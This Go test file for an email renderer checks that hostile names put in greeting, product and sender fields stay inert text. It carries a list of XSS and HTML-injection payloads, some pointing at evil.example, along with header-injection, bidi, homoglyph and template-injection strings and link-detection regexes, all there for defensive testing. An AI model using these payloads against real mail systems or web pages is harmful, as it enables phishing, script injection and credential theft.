package render_test

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"golang.org/x/net/html"

	"github.com/passmend/passmend/core"
	"github.com/passmend/passmend/plugins/sdk"
)

// hostileNames are threats.md, row 41 (T24b): what somebody may call himself, or
// his product, in the hope that a mail client acts on it.
func hostileNames() []string {
	return []string{
		`<script>alert(1)</script>`,
		`</p><script src=//evil.example/x.js></script>`,
		`<img src=x onerror=alert(1)>`,
		`<svg onload=alert(1)>`,
		`<a href="https://evil.example">Ada</a>`,
		`<a href=javascript:alert(1)>Ada</a>`,
		`<iframe srcdoc="<script>alert(1)</script>">`,
		`<form action=https://evil.example><input name=password></form>`,
		`<style>*{display:none}</style>`,
		`</style><h1>Owned</h1>`,
		`</title><meta http-equiv=refresh content=0;url=https://evil.example>`,
		`<!--`,
		`--><b>Ada</b>`,
		`<base href=https://evil.example/>`,
		`<link rel=stylesheet href=https://evil.example/x.css>`,
		`<table background=https://evil.example/pixel.png>`,
		`" onmouseover="alert(1)`,
		`"><img src=https://evil.example/pixel.png alt="`,
		`'><input type='password`,
		"Ada\"\tonerror\n=\talert(1) x=\"",
		`Click https://evil.example`,
		`http://evil.example/login`,
		`www.evil.example`,
		`evil.example`,
		`WWW.EVIL.EXAMPLE/reset`,
		`go to evil.example now`,
		`203.0.113.7`,
		`security@evil.example`,
		`mailto:a@evil.example`,
		`//evil.example/x`,
		"ｗｗｗ．ｅｖｉｌ．ｅｘａｍｐｌｅ",
		"evil。example",
		"evil\u200b.\u200dexample",
		"https:\u200b//evil.example",
		"Call +1 202 555 0114 now",
		"Ada\r\nBcc: victim@evil.example",
		"Ada\nhttps://evil.example\n",
		"Ada\u2028https://evil.example",
		"Ada\u2029<b>x</b>",
		"\u202eelpmaxe.live//:sptth",
		"Ada\x00\x1b[31m\x07",
		"{{.Link}}{{printf `%s` .}}",
		"{product}{link}{until}",
		"A" + strings.Repeat("\u0336\u0489", 60),
		strings.Repeat("Reply with your password ", 12),
		"\xff\xfe<\x80script>alert(1)</script>",
	}
}

func TestHostileNamesStayText(t *testing.T) {
	t.Parallel()
	slots := []struct {
		name string
		// person is false where a name belongs to the account: a dot may stand there.
		person bool
		put    func(*core.MailFacts, string)
	}{
		{"first name", true, func(f *core.MailFacts, s string) { f.To.FirstName = s }},
		{"last name", true, func(f *core.MailFacts, s string) { f.To.LastName = s }},
		{"product name", false, func(f *core.MailFacts, s string) { f.Account.Branding.ProductName = s }},
		{"account name", false, func(f *core.MailFacts, s string) {
			f.Account.Branding.ProductName, f.Account.Name = "", s
		}},
		{"from name", false, func(f *core.MailFacts, s string) { f.Account.Branding.FromName = s }},
	}
	if len(hostileNames()) < 40 {
		t.Fatal("T24b asks for forty names")
	}
	r := setup(t)
	logo := logoPNG(t, 64, 16)
	for _, template := range []string{core.MailReset, core.MailChanged} { // an invite is laid out as a reset is
		benign := skeleton(mail(t, facts(t, template, func(f *core.MailFacts) { f.Logo = logo })).HTML)
		for _, slot := range slots {
			for i, name := range hostileNames() {
				rendered, err := r.Mail(t.Context(), facts(t, template, func(f *core.MailFacts) { f.Logo = logo; slot.put(f, name) }))
				if err != nil {
					t.Fatalf("%s, %s %d: %v", template, slot.name, i, err)
				}
				faults := append(markup(benign, rendered.HTML), unsafeFields(rendered)...)
				faults = append(faults, clickable(rendered, slot.person)...)
				if len(faults) > 0 {
					t.Errorf("%s, %s %q: %q", template, slot.name, name, faults)
				}
			}
		}
	}
}

// Whoever names an account chooses words for a mail that is the platform's own.
func TestHostileListedNamesStayText(t *testing.T) {
	t.Parallel()
	r := setup(t)
	named := func(name string) func(*core.MailFacts) {
		return func(f *core.MailFacts) {
			f.Account.Name = "Passmend" // a dot of the platform's is no fault here
			f.Accounts[1].Account.Name, f.Accounts[1].ForgotURL = name, forgot
		}
	}
	benign := skeleton(mail(t, facts(t, core.MailAccounts, named("Sub-Etha"))).HTML)
	for i, name := range hostileNames() {
		rendered, err := r.Mail(t.Context(), facts(t, core.MailAccounts, named(name)))
		if err != nil {
			t.Fatalf("%d: %v", i, err)
		}
		faults := append(markup(benign, rendered.HTML), unsafeFields(rendered)...)
		if faults = append(faults, clickable(rendered, true)...); len(faults) > 0 {
			t.Errorf("%q: %q", name, faults)
		}
	}
}

// The checks above are worth something only if they catch a renderer that pastes
// names in. Each name must be caught in at least one place.
func TestNaiveRenderingIsCaught(t *testing.T) {
	t.Parallel()
	benign := mail(t, facts(t, core.MailReset, func(f *core.MailFacts) { f.Logo = logoPNG(t, 64, 16) }))
	harmless := skeleton(benign.HTML)
	for _, name := range hostileNames() {
		naive := benign
		naive.HTML = strings.NewReplacer(
			"Hello Ada,", "Hello "+name+",",
			`alt="Acme"`, `alt="`+name+`"`,
			`<title>Reset`, `<title>`+name,
		).Replace(benign.HTML)
		naive.Text = strings.Replace(benign.Text, "Hello Ada,", "Hello "+name+",", 1)
		naive.Subject = "Reset your " + name + " password"
		naive.To.Name = name

		faults := append(markup(harmless, naive.HTML), unsafeFields(naive)...)
		faults = append(faults, clickable(naive, true)...)
		if len(faults) == 0 && greetsAsNamed(name) {
			t.Errorf("pasting %q in goes unnoticed", name)
		}
	}
}

// greetsAsNamed leaves out the two names that are no markup and no link by
// themselves: they would only be read twice, by a template or by a phrase.
func greetsAsNamed(name string) bool { return !strings.HasPrefix(name, "{") }

func TestNamesAreNotTemplates(t *testing.T) {
	t.Parallel()
	rendered := mail(t, facts(t, core.MailReset, func(f *core.MailFacts) {
		f.Account.Branding.ProductName = "{until}{{.Link}}"
	}))
	if !strings.Contains(rendered.Subject, "{until}{{.Link}}") {
		t.Errorf("subject %q: the product's name was read as a template", rendered.Subject)
	}
	if strings.Count(rendered.Text, link) != 1 {
		t.Error("the link appears where a name asked for it")
	}
}

func TestGreetingUsesNamesThatAreNames(t *testing.T) {
	t.Parallel()
	tests := map[string]string{
		"Ada":                                   "Hello Ada,",
		"  Ada \t Marie ":                       "Hello Ada Marie,",
		"St. John":                              "Hello St. John,",
		"O'Brien":                               "Hello O'Brien,",
		"Ana-María":                             "Hello Ana-María,",
		"Ada & Bob":                             "Hello Ada & Bob,",
		"李小龍":                                   "Hello 李小龍,",
		"محمد\u200cعلی":                         "Hello محمد\u200cعلی,",
		"Nguyễn":                                "Hello Nguyễn,",
		"Ada\u202e\u0000":                       "Hello Ada,",
		strings.Repeat("a", 60):                 "Hello " + strings.Repeat("a", 60) + ",",
		strings.Repeat("a", 61):                 "Hello,",
		"":                                      "Hello,",
		" \u2800\u3164 ":                        "Hello,",
		"12":                                    "Hello,",
		"Click https://evil.test":               "Hello,",
		"J.R":                                   "Hello,",
		"ada@example.com":                       "Hello,",
		"Ada http:":                             "Hello,",
		"call 0800 123":                         "Hello,",
		"<b>Ada</b>":                            "Hello,",
		"e\u0301\u0301\u0301\u0301":             "Hello e\u0301\u0301\u0301\u0301,",
		"e\u0301\u0301\u0301\u0301\u0301\u0301": "Hello e\u0301\u0301\u0301\u0301,",
	}
	for name, want := range tests {
		rendered := mail(t, facts(t, core.MailReset, func(f *core.MailFacts) { f.To.FirstName = name }))
		if got, _, _ := strings.Cut(rendered.Text, "\n"); got != want {
			t.Errorf("%q greets %q, want %q", name, got, want)
		}
	}
}

func FuzzNames(f *testing.F) {
	for _, name := range hostileNames() {
		f.Add(name, "Lovelace", "Acme", "Acme")
		f.Add("Ada", name, name, name)
	}
	r := setup(f)
	harmless := map[string][]string{
		core.MailReset:   skeleton(mail(f, facts(f, core.MailReset)).HTML),
		core.MailChanged: skeleton(mail(f, facts(f, core.MailChanged)).HTML),
	}
	f.Fuzz(func(t *testing.T, first, last, product, from string) {
		for template, want := range harmless {
			rendered, err := r.Mail(t.Context(), facts(t, template, func(f *core.MailFacts) {
				f.To.FirstName, f.To.LastName = first, last
				f.Account.Branding.ProductName, f.Account.Branding.FromName = product, from
			}))
			if err != nil {
				t.Fatal(err)
			}
			faults := append(markup(want, rendered.HTML), unsafeFields(rendered)...)
			greeting := rendered
			greeting.Text, _, _ = strings.Cut(rendered.Text, "\n")
			greeting.HTML, greeting.Subject, greeting.From.Name = "", "", ""
			faults = append(faults, clickable(greeting, true)...)
			if len(faults) > 0 {
				t.Fatalf("%q", faults)
			}
			if template == core.MailReset && strings.Count("\n"+rendered.Text, "\n"+link+"\n") != 1 {
				t.Fatal("the link is not alone on its line")
			}
		}
	})
}

// markup gives what rendered has that want, the skeleton of the same mail with
// harmless names, has not.
func markup(want []string, rendered string) []string {
	got := skeleton(rendered)
	if slices.Equal(want, got) {
		return nil
	}
	for i := range got {
		if i >= len(want) || got[i] != want[i] {
			return []string{"markup: " + got[i]}
		}
	}
	return []string{"markup: elements are gone"}
}

// skeleton lists elements, attributes and their values, except the logo's alt text.
func skeleton(document string) []string {
	root, err := html.Parse(strings.NewReader(document))
	if err != nil {
		return []string{err.Error()}
	}
	var found []string
	for node := range root.Descendants() {
		switch node.Type {
		case html.ElementNode:
			line := node.Data
			for _, attribute := range node.Attr {
				if attribute.Key == "alt" {
					attribute.Val = ""
				}
				line += fmt.Sprintf(" %s=%q", attribute.Key, attribute.Val)
			}
			found = append(found, line)
		case html.CommentNode:
			found = append(found, "comment")
		case html.TextNode:
			if node.Parent.Data == "style" {
				found = append(found, "style "+node.Data)
			}
		}
	}
	return found
}

// words gives the text of a document as a reader sees it, mailbox preview included.
func words(document string) string {
	root, err := html.Parse(strings.NewReader(document))
	if err != nil {
		return err.Error()
	}
	var text strings.Builder
	for node := range root.Descendants() {
		if node.Type == html.TextNode && node.Parent.Data != "style" {
			text.WriteString(node.Data + "\n")
		}
	}
	return text.String()
}

var (
	anyURL  = regexp.MustCompile(`(?i)https?:|www\.|//|@`)
	anyHost = regexp.MustCompile(`(?i)[\pL\pN][.．。｡][\pL\pN]|[0-9]{3}[ -]?[0-9]{4}`)
)

// clickable gives what a mail client would make a link of, beyond our own.
func clickable(m sdk.Mail, hosts bool) []string {
	ours := strings.NewReplacer(link, "", forgot, "", "help@acme.example", "", "\u200b", "", "\u200d", "")
	var faults []string
	for _, text := range []string{m.Text, words(m.HTML), m.Subject, m.To.Name, m.From.Name} {
		text = ours.Replace(text)
		if found := anyURL.FindString(text); found != "" {
			faults = append(faults, "clickable: "+found)
		}
		if found := anyHost.FindString(text); found != "" && hosts {
			faults = append(faults, "clickable: "+found)
		}
	}
	return faults
}

// unsafeFields gives the fields of a mail that could break a header or turn a
// line round, and bodies with control characters beyond the line feed.
func unsafeFields(m sdk.Mail) []string {
	fields := map[string]string{
		"From name": m.From.Name, "From": m.From.Address, "To name": m.To.Name, "To": m.To.Address,
		"Reply-To name": m.ReplyTo.Name, "Reply-To": m.ReplyTo.Address,
		"Subject": m.Subject, "Message-ID": m.MessageID,
	}
	for _, header := range m.Headers {
		fields["header "+header.Name] = header.Name + header.Value
	}
	for _, part := range m.Inline {
		fields["inline"] += part.ContentID + part.ContentType + part.Name
	}
	var faults []string
	for name, value := range fields {
		if strings.ContainsFunc(value, breaking) || !utf8.ValidString(value) {
			faults = append(faults, "field "+name)
		}
	}
	for _, name := range []string{"From", "To", "Reply-To", "Message-ID"} {
		if strings.ContainsAny(fields[name], " ,;<>()\"\\") || strings.Count(fields[name], "@") > 1 {
			faults = append(faults, "address "+name)
		}
	}
	for name, value := range map[string]string{"To name": m.To.Name, "Subject": m.Subject} {
		if utf8.RuneCountInString(value) > 140 {
			faults = append(faults, "length of "+name)
		}
	}
	for name, body := range map[string]string{"text": m.Text, "HTML": m.HTML} {
		if strings.ContainsFunc(strings.ReplaceAll(body, "\n", ""), breaking) || !utf8.ValidString(body) || stacked.MatchString(body) {
			faults = append(faults, "body "+name)
		}
	}
	return faults
}

var stacked = regexp.MustCompile(`[\p{Mn}\p{Me}]{8}`)

func breaking(r rune) bool {
	return unicode.IsControl(r) || r == '\u2028' || r == '\u2029' || unicode.Is(unicode.Bidi_Control, r)
}
